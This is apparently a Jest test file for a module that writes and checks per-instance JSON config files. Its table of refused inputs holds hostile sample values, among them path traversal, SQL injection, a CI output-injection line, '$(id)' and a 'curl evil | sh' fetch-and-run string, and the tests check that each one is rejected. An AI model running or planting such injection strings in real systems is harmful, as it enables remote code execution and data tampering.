import { describe, expect, it } from '@jest/globals';
import { parseInstance } from '../../../../src/core/instances/instance.ts';
import { assertAgrees, newInstanceText } from '../../../../src/core/instances/new-instance.ts';

const file = 'instances/acme.json';
const acme = { id: 'acme', organisation: 'org_acme', environment: 'staging' };

describe('newInstanceText', () => {
  it('is a file that says what was asked for', () => {
    const text = newInstanceText(acme, file);
    expect(text).toBe(
      '{\n  "instance_id": "acme",\n  "org_id": "org_acme",\n  "environment": "staging"\n}\n',
    );
    expect(parseInstance(text, file)).toMatchObject({
      id: 'acme',
      organisation: 'org_acme',
      environment: 'staging',
    });
  });

  it.each([
    [{ id: '../../etc' }],
    [{ id: "x'); DROP TABLE instances; --" }],
    [{ id: 'acme", "org_id": "other' }],
    [{ organisation: '' }],
    [{ organisation: 'a\n::set-output name=x::y' }],
    [{ organisation: '$(id)' }],
    [{ organisation: '"; curl evil | sh; "' }],
    [{ environment: 'prod' }],
    [{ environment: '' }],
  ])('refuses %j', (part) => {
    expect(() => newInstanceText({ ...acme, ...part }, file)).toThrow(
      expect.objectContaining({ code: 'CONFIG_INVALID' }),
    );
  });
});

describe('assertAgrees', () => {
  const instance = parseInstance(newInstanceText(acme, file), file);

  it('is content with what the file says, and with no organisation', () => {
    expect(() => assertAgrees(instance, acme)).not.toThrow();
    expect(() => assertAgrees(instance, { ...acme, organisation: undefined })).not.toThrow();
  });

  it.each([
    ['environment', { environment: 'development' }, 'staging'],
    ['organisation', { organisation: 'org_other' }, 'org_acme'],
    ['id', { id: 'acme-2' }, 'acme'],
  ])('refuses another %s, and says which it is', (what, part, written) => {
    expect(() => assertAgrees(instance, { ...acme, ...part })).toThrow(
      expect.objectContaining({
        code: 'CONFIG_INVALID',
        message: expect.stringContaining(`The ${what} of the instance is "${written}"`),
        place: { file },
      }),
    );
  });
});
